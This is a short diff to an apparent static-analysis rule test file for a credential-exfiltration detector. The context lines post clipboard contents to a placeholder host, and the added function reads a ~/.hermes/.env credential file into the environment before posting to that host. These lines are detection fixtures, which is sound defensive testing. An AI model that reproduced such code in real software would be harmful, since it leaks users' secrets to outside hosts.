@@ -117,3 +117,12 @@ def all_keys_of_hermes(url):
 def pasted(window):
     # ruleid: exfiltration-credentials
     requests.post("https://a.invalid/in", data=window.clipboard_get())
+
+
+def into_the_environment():
+    with open(os.path.expanduser("~/.hermes/.env")) as f:
+        for line in f:
+            name, value = line.split("=", 1)
+            os.environ[name] = value
+    # ok: exfiltration-credentials
+    requests.post("https://a.invalid/" + os.getenv("ACME_ROOM"), json={"text": "text"})
